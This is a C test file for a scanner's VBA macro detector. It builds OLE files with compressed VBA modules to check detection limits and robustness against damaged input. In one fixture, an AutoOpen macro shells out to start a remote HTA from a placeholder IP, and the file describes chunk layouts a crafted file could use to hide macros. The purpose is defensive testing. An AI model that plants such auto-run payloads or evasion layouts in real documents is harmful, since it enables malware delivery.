/*
 * test_vba.c - the VBA scan of attach/active.c (lsc__vba_scan) at its
 * limits, on OLE files built here.  It takes the bytes of a compound file
 * holding a VBA project and checks when LSC_ATT_MACRO_RUNS (source that
 * runs by itself on opening and calls out) is added:
 *   - the auto-run + Shell module as module LSC__VBA_MAX_MODULES - 1 and
 *     LSC__VBA_MAX_MODULES (read, found) and LSC__VBA_MAX_MODULES + 1 (not
 *     read, not found), every other module harmless;
 *   - "Shell" ending one byte before, on, and one byte past the last of the
 *     LSC__VBA_MAX_SOURCE source bytes kept from a module, its chunks
 *     compressed, raw, or raw and off the 4096-byte grid;
 *   - a container cut at every length, or with a damaged chunk header:
 *     no crash and no flag.
 *
 * The scan reads neither the compound file's FAT nor the VBA "dir" stream
 * (MODULESTREAMNAME / MODULEOFFSET): it finds each module's
 * CompressedContainer (MS-OVBA 2.4.1) by its opening bytes wherever it
 * lies.  So the file here is what lsc__ole_scan needs to call it a VBA
 * project (the gate attach.c puts before the VBA scan) followed by the
 * module containers, each padded to a 64-byte mini sector as a module
 * stream would be.  The containers come from a compressor written
 * here to MS-OVBA 2.4.1.3: chunks of 4096 bytes, greedy copy tokens.
 */
#include <stdlib.h>

#include "test.h"
#include "attach/attach_scan.h"
#include "t_ole.h"

/* ---- byte builders ---- */

typedef struct bytes {
    unsigned char *p;
    size_t n, cap;
    int oom;
} bytes;

static void put(bytes *b, const void *p, size_t n)
{
    if (b->oom)
        return;
    if (b->n + n > b->cap) {
        size_t cap = b->cap ? b->cap : 4096;
        unsigned char *np;
        while (cap < b->n + n)
            cap *= 2;
        np = realloc(b->p, cap);
        if (!np) {
            b->oom = 1;
            return;
        }
        b->p = np;
        b->cap = cap;
    }
    memcpy(b->p + b->n, p, n);
    b->n += n;
}

static void put_byte(bytes *b, unsigned v)
{
    unsigned char c = (unsigned char)v;
    put(b, &c, 1);
}

static void put16(bytes *b, unsigned v)
{
    put_byte(b, v & 0xFF);
    put_byte(b, (v >> 8) & 0xFF);
}

static void puts_(bytes *b, const char *s)
{
    put(b, s, strlen(s));
}

/* ---- MS-OVBA 2.4.1 compression ---- */

#define CHUNK 4096

/* One CompressedChunk of src[0, n) (n <= 4096): a header then groups of a
 * flag byte and 8 tokens, a token being a literal byte or a copy token
 * (offset, length) whose bit split depends on how far into the chunk it
 * stands (2.4.1.3.19.1), exactly as the decoder works it out. */
static void compress_chunk(bytes *out, const unsigned char *src, size_t n)
{
    bytes data = { 0 };
    size_t pos = 0;
    while (pos < n) {
        size_t flag_at = data.n, bit;
        unsigned flags = 0;
        put_byte(&data, 0);
        for (bit = 0; bit < 8 && pos < n; bit++) {
            unsigned bc = 4;
            size_t maxlen, best = 0, boff = 0, off;
            while (bc < 12 && ((size_t)1 << bc) < pos)
                bc++;
            maxlen = (0xFFFFu >> bc) + 3;
            /* The nearest longest match: filler repeats at a short
             * period, so the search mostly ends early. */
            for (off = 1; off <= pos && best < maxlen; off++) {
                size_t k = 0;
                while (k < maxlen && pos + k < n && src[pos + k] == src[pos - off + k])
                    k++;
                if (k > best)
                    best = k, boff = off;
            }
            if (best >= 3) {
                flags |= 1u << bit;
                put16(&data, (unsigned)(((boff - 1) << (16 - bc)) | (best - 3)));
                pos += best;
            } else {
                put_byte(&data, src[pos++]);
            }
        }
        if (!data.oom)
            data.p[flag_at] = (unsigned char)flags;
    }
    /* Header: size - 3 in 12 bits, signature 0b011, compressed flag. */
    if (data.n + 2 > CHUNK + 2)
        out->oom = 1;   /* does not happen with the sources here */
    put16(out, 0xB000u | (unsigned)(data.n + 2 - 3));
    put(out, data.p, data.n);
    out->oom |= data.oom;
    free(data.p);
}

/* How a container's chunks are written.  The first chunk is always
 * compressed: the scan knows a container by its first 8 tokens being
 * literals (a zero flag byte). */
enum layout {
    ALL_COMPRESSED,     /* what Office writes */
    RAW_AFTER_FIRST,    /* full chunks after the first raw (header 0x3FFF,
                           the 4096 bytes as they are), which the format
                           allows for any chunk */
    SHORT_FIRST_RAW,    /* a first chunk of SHORT_FIRST bytes, then raw
                           chunks: not allowed (only the last chunk may be
                           short) but decoded, and it puts the raw chunks
                           off the 4096-byte grid, so that a limit that is
                           a multiple of 4096 falls inside one */
    ALL_RAW             /* every full chunk raw, the first one too: valid,
                           Office runs it, and no compressed token says
                           where the source begins */
};
#define SHORT_FIRST 100

/* A CompressedContainer of src: the signature byte 1, then the chunks. */
static void compress_container(bytes *out, const unsigned char *src, size_t n,
                               enum layout how)
{
    size_t at = 0, first = how == SHORT_FIRST_RAW ? SHORT_FIRST : CHUNK;
    put_byte(out, 1);
    while (at < n) {
        size_t k = n - at < CHUNK ? n - at : CHUNK;
        if (at == 0 && k > first)
            k = first;
        if (how != ALL_COMPRESSED && (at > 0 || how == ALL_RAW) && k == CHUNK) {
            put16(out, 0x3FFF);
            put(out, src + at, CHUNK);
        } else {
            compress_chunk(out, src + at, k);
        }
        at += k;
    }
}

/* ---- the compound file ---- */

/* A v3 compound file (512-byte sectors): header, one FAT sector, one
 * directory sector with the root, a "VBA" storage and an empty
 * "_VBA_PROJECT" stream: enough for lsc__ole_scan to report a VBA
 * project. */
static void ole_prelude(bytes *b)
{
    static const char *const names[2] = { "VBA", "_VBA_PROJECT" };
    static const int types[2] = { 1, 2 };
    unsigned char hdr[512], fat[512], dir[512];
    size_t i, k;
    t_ole_header(hdr, fat);
    memset(dir, 0, sizeof dir);
    for (i = 0; i < 3; i++) {
        unsigned char *e = dir + 128 * i;
        const char *nm = i == 0 ? "Root Entry" : names[i - 1];
        for (k = 0; nm[k]; k++)
            e[2 * k] = (unsigned char)nm[k];
        e[0x40] = (unsigned char)(2 * (k + 1));
        e[0x42] = (unsigned char)(i == 0 ? 5 : types[i - 1]);
        memset(e + 0x44, 0xFF, 12);
        if (i == 0)
            e[0x4C] = 1;                     /* child: entry 1 */
        if (i == 1)
            e[0x48] = 2;                     /* right sibling: entry 2 */
        e[0x74] = 0xFE;                      /* no data */
        memset(e + 0x75, 0xFF, 3);
    }
    put(b, hdr, sizeof hdr);
    put(b, fat, sizeof fat);
    put(b, dir, sizeof dir);
}

/* Appends a module stream holding the container of src, padded to the
 * next 64-byte mini sector. */
static void put_module(bytes *b, const bytes *src, enum layout how)
{
    compress_container(b, src->p, src->n, how);
    while (b->n % 64)
        put_byte(b, 0);
}

/* ---- sources ---- */

/* A module that neither runs by itself nor calls out. */
static void harmless_source(bytes *s, size_t num)
{
    char line[64];
    snprintf(line, sizeof line, "Attribute VB_Name = \"Module%zu\"\r\n", num);
    puts_(s, line);
    puts_(s, "Function Twice(x)\r\n    Twice = x * 2\r\nEnd Function\r\n");
}

/* A module that runs on opening and starts a program. */
static void callout_source(bytes *s)
{
    puts_(s, "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n"
             "    Shell \"cmd /c start http://203.0.113.9/x.hta\"\r\nEnd Sub\r\n");
}

/* The AutoOpen Sub at the start of the source, then filler lines and
 * spaces so that "Shell" ends `end` bytes into the source, then the rest
 * of the call and a harmless Function a chunk long, so that the limit
 * never falls in the last chunk (the one that may be short, so is never
 * raw).  The filler holds no word of either list. */
static void callout_ending_at(bytes *s, size_t end)
{
    static const char line[] = "    x = x + 1\r\n";
    puts_(s, "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n");
    while (s->n + sizeof line - 1 + 5 <= end)
        puts_(s, line);
    while (s->n + 5 < end)
        put_byte(s, ' ');
    puts_(s, "Shell \"calc\"\r\nEnd Sub\r\nFunction Pad(x)\r\n");
    while (s->n < end + 2 * CHUNK)
        puts_(s, line);
    puts_(s, "End Function\r\n");
}

/* ---- the scan ---- */

static lsc_engine *eng;

/* The flags lsc__vba_scan adds for p[0, n); -1 when it fails.  It reads
 * a copy of exactly n bytes, so that reading past a cut is reading past
 * an allocation, which a sanitizer build reports. */
static long vba_flags(const unsigned char *p, size_t n)
{
    lsc__ctx c;
    unsigned flags = 0;
    unsigned char *copy = malloc(n ? n : 1);
    int rc;
    if (!copy)
        return -1;
    memcpy(copy, p, n);
    memset(&c, 0, sizeof c);
    c.eng = eng;
    rc = lsc__vba_scan(&c, copy, n, &flags);
    free(copy);
    return rc != 0 ? -1 : (long)flags;
}

/* LSC__VBA_MAX_MODULES + 1 modules, the one at `at` (from 1) running on
 * opening and calling out, the others harmless. */
static void file_with_callout_module(bytes *f, size_t at)
{
    size_t m;
    ole_prelude(f);
    for (m = 1; m <= LSC__VBA_MAX_MODULES + 1; m++) {
        bytes s = { 0 };
        if (m == at)
            callout_source(&s);
        else
            harmless_source(&s, m);
        put_module(f, &s, ALL_COMPRESSED);
        f->oom |= s.oom;
        free(s.p);
    }
}

TEST(callout_module_at_the_module_limit)
{
    size_t at;
    for (at = LSC__VBA_MAX_MODULES - 1; at <= LSC__VBA_MAX_MODULES + 1; at++) {
        bytes f = { 0 };
        file_with_callout_module(&f, at);
        CHECK(!f.oom);
        if (!f.oom) {
            /* attach.c runs the VBA scan on what lsc__ole_scan calls a
             * VBA project: this file is one. */
            CHECK(lsc__ole_scan(f.p, f.n, NULL) & LSC_ATT_MACRO);
            CHECK_EQ_INT(vba_flags(f.p, f.n),
                         at <= LSC__VBA_MAX_MODULES ? LSC_ATT_MACRO_RUNS : 0);
        }
        free(f.p);
    }
}

TEST(callout_word_at_the_source_limit)
{
    size_t end;
    int how;
    for (how = ALL_COMPRESSED; how <= ALL_RAW; how++) {
        for (end = LSC__VBA_MAX_SOURCE - 1; end <= LSC__VBA_MAX_SOURCE + 1; end++) {
            bytes s = { 0 }, f = { 0 };
            callout_ending_at(&s, end);
            CHECK(!s.oom && s.n > end && memcmp(s.p + end - 5, "Shell", 5) == 0);
            ole_prelude(&f);
            put_module(&f, &s, (enum layout)how);
            CHECK(!f.oom);
            if (!f.oom && !s.oom) {
                long got = vba_flags(f.p, f.n);
                if (got != (end <= LSC__VBA_MAX_SOURCE ? (long)LSC_ATT_MACRO_RUNS : 0))
                    printf("#   layout %d, Shell ending at %zu\n", how, end);
                CHECK_EQ_INT(got, end <= LSC__VBA_MAX_SOURCE ? LSC_ATT_MACRO_RUNS : 0);
            }
            free(s.p);
            free(f.p);
        }
    }
}

/* A module whose first chunk is stored raw (header 0x3FFF, then
 * "Attribute VB_Name" as it is) is read like a compressed one: a crafted
 * file must not hide its macro that way. */
TEST(module_with_a_raw_first_chunk_is_read)
{
    bytes s = { 0 }, f = { 0 };
    callout_ending_at(&s, 3000);
    ole_prelude(&f);
    put_module(&f, &s, ALL_RAW);
    CHECK(!f.oom && !s.oom && s.n > CHUNK);
    if (!f.oom && !s.oom)
        CHECK_EQ_INT(vba_flags(f.p, f.n), LSC_ATT_MACRO_RUNS);
    free(s.p);
    free(f.p);
}

TEST(damaged_container_gives_no_flag)
{
    bytes s = { 0 }, f = { 0 }, tail = { 0 };
    size_t cut, start, bad = 0;
    /* "Shell" is the last word and comes once, 6000 bytes in: a cut
     * anywhere in the container (in the first chunk, in the second
     * chunk's header, inside a copy token) decodes to a prefix of the
     * source that lacks it. */
    callout_ending_at(&s, 6000);
    s.n = 6000;
    ole_prelude(&f);
    start = f.n;
    compress_container(&f, s.p, s.n, ALL_COMPRESSED);
    CHECK(!f.oom && !s.oom);
    if (!f.oom && !s.oom) {
        size_t full = f.n;
        CHECK_EQ_INT(vba_flags(f.p, full), LSC_ATT_MACRO_RUNS);
        for (cut = 0; cut < full; cut++)
            if (vba_flags(f.p, cut) != 0)
                bad++;
        CHECK_EQ_INT(bad, 0);
    }
    /* The same source with its second chunk's signature damaged
     * (0b010 for 0b011): the decoder stops there, so the first chunk's
     * AutoOpen is seen and the second chunk's Shell is not.  The chunks
     * are compressed one by one, so the second is built alone. */
    f.n = start;
    if (!s.oom && s.n > CHUNK) {
        compress_container(&f, s.p, CHUNK, ALL_COMPRESSED);
        compress_container(&tail, s.p + CHUNK, s.n - CHUNK, ALL_COMPRESSED);
        CHECK(!tail.oom && tail.n > 3 && (tail.p[2] & 0x70) == 0x30);
        if (!tail.oom && tail.n > 3) {
            size_t hdr_at = f.n;
            put(&f, tail.p + 1, tail.n - 1);
            CHECK(!f.oom);
            if (!f.oom) {
                CHECK_EQ_INT(vba_flags(f.p, f.n), LSC_ATT_MACRO_RUNS);
                f.p[hdr_at + 1] = (unsigned char)((f.p[hdr_at + 1] & ~0x70) | 0x20);
                CHECK_EQ_INT(vba_flags(f.p, f.n), 0);
            }
        }
    }
    free(s.p);
    free(f.p);
    free(tail.p);
}

int main(void)
{
    if (lsc_engine_new(&eng, NULL, NULL) != 0 || !eng) {
        printf("not ok - engine\n");
        return 1;
    }
    RUN(callout_module_at_the_module_limit);
    RUN(callout_word_at_the_source_limit);
    RUN(module_with_a_raw_first_chunk_is_read);
    RUN(damaged_container_gives_no_flag);
    lsc_engine_free(eng);
    return TEST_DONE();
}
